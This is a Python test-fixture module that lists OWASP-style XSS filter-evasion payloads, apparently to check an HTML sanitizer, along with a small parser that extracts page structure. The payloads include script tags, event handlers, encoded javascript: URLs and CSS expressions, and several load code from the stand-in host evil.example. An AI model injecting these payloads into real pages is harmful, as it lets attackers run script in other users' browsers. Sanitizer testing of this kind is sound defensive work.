"""Attempts to make a text act in somebody's browser: the ways of OWASP's XSS Filter Evasion Cheat Sheet, one by one.

`skeleton` says what a page is made of, whatever its words are: two pages that differ in a text alone have the
same one.
"""

from __future__ import annotations

from html.parser import HTMLParser

_IMG = '<img src="{}">'

#: scripts, and what closes what stands before them
SCRIPTS = (
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(1);//'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT/SRC="//evil.example/x.js"></SCRIPT>',
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/x.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "</script><script>alert(1);</script>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    '\\";alert(1);//',
    '<SCRIPT a=">" SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT =">" SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT a=">" \'\' SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT "a=\'>\'" SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT a=`>` SRC="//evil.example/x.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//evil.example/x.js"></SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=//evil.example/x.js></SCRIPT>'\"-->",
    "<? echo('<SCR)';echo('IPT>alert(1)</SCRIPT>'); ?>",
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "Set.constructor`alert\\x28document.domain\\x29",
)
#: handlers of events, on tags that are allowed and on others
HANDLERS = (
    '<a onmouseover="alert(1)">link</a>',
    "<a onmouseover=alert(1)>link</a>",
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC= onmouseover="alert(1)">',
    '<IMG onmouseover="alert(1)">',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099:alert(1)">',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<BODY ONLOAD =alert(1)>",
    "<svg/onload=alert(1)>",
    "<p onclick=alert(1)>text</p>",
    "<h2\x0confocus=alert(1) tabindex=0>text</h2>",
    "<table onpointerenter=alert(1)><tr><td>1</td></tr></table>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
    "<marquee onstart=alert(1)>",
    "<p/onwheel=alert(1)//style=x>",
)
#: addresses that run
ADDRESSES = (
    _IMG.format("javascript:alert(1);"),
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=`javascript:alert(\"1 says, '2'\")`>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=" + "".join(f"&#{ord(c)};" for c in "javascript:alert(1)") + ">",
    "<IMG SRC=" + "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)") + ">",
    "<IMG SRC=" + "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)") + ">",
    _IMG.format("jav\tascript:alert(1);"),
    _IMG.format("jav&#x09;ascript:alert(1);"),
    _IMG.format("jav&#x0A;ascript:alert(1);"),
    _IMG.format("jav&#x0D;ascript:alert(1);"),
    _IMG.format(" &#14;  javascript:alert(1);"),
    _IMG.format("java\0script:alert(1)"),
    '<IMG SRC="javascript:alert(1)"',
    "<iframe src=//evil.example/x.html <",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<BODY BACKGROUND="javascript:alert(1)">',
    '<IMG DYNSRC="javascript:alert(1)">',
    '<IMG LOWSRC="javascript:alert(1)">',
    "<IMG SRC='vbscript:msgbox(\"1\")'>",
    '<IMG SRC="livescript:[code]">',
    '<BGSOUND SRC="javascript:alert(1);">',
    '<BR SIZE="&{alert(1)}">',
    '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(1)</SCRIPT>">',
    '<IFRAME SRC="javascript:alert(1);"></IFRAME>',
    '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(1)"><TR><TD>1</TABLE>',
    '<TABLE><TD BACKGROUND="javascript:alert(1)">',
    '<BASE HREF="javascript:alert(1);//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="//evil.example/x.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<A HREF="//evil.example/">link</A>',
    '<A HREF="h\ntt  p://6&#09;6.000146.0x7.147/">link</A>',
    "<A HREF=\"javascript:document.location='//evil.example/'\">link</A>",
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    '<form><button formaction="javascript:alert(1)">press</button></form>',
    '<math href="javascript:alert(1)">press</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text>press</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
#: styles, and markup of others
STYLES = (
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(1))'>",
    '<STYLE TYPE="text/javascript">alert(1);</STYLE>',
    "<XSS STYLE=\"xss:expression(alert(1))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    '<DIV STYLE="background-image: url(javascript:alert(1))">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
    '<DIV STYLE="width: expression(alert(1));">',
    '<p style="position:fixed;inset:0">all of the page</p>',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(1)"></B></I></XML>',
    '<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(1)</SCRIPT>">',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
)  # fmt: skip
ATTEMPTS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *STYLES)


class _Skeleton(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, tuple[str, ...]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", ()))

    def handle_pi(self, data: str) -> None:
        self.found.append(("?", ()))


def skeleton(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The tags of a page with the names of their attributes, in order."""
    seen = _Skeleton()
    seen.feed(html)
    seen.close()
    return seen.found
